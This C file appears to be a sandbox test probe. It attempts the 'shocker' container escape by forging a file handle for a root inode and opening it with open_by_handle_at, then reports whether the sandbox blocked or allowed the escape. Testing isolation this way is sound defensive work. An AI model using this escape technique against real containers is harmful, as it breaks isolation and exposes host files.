/* SPDX-License-Identifier: MIT */
/* Attack: "shocker", the container escape through file handles. name_to_handle_at gets a
 * handle for a file, open_by_handle_at opens any inode of that filesystem by handle, past the
 * sandbox's mount tree (it needs CAP_DAC_READ_SEARCH). */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#include "attack.h"

int main(void)
{
        struct file_handle *h = calloc(1, sizeof(*h) + MAX_HANDLE_SZ);
        int mount_id, fd;

        h->handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, "/etc/passwd", h, &mount_id, 0) < 0)
                blocked("name_to_handle_at: %s", attack_errname(errno));
        /* A root directory's handle on ext4 is inode 2, generation 0: try it anyway. */
        h->handle_bytes = 8;
        h->handle_type = 1;
        memset(h->f_handle, 0, 8);
        h->f_handle[0] = 2;
        fd = open_by_handle_at(open("/etc", O_RDONLY | O_DIRECTORY), h, O_RDONLY);
        if (fd >= 0)
                escaped("open_by_handle_at opened an inode by handle");
        else
                blocked("open_by_handle_at: %s", attack_errname(errno));
        return 0;
}
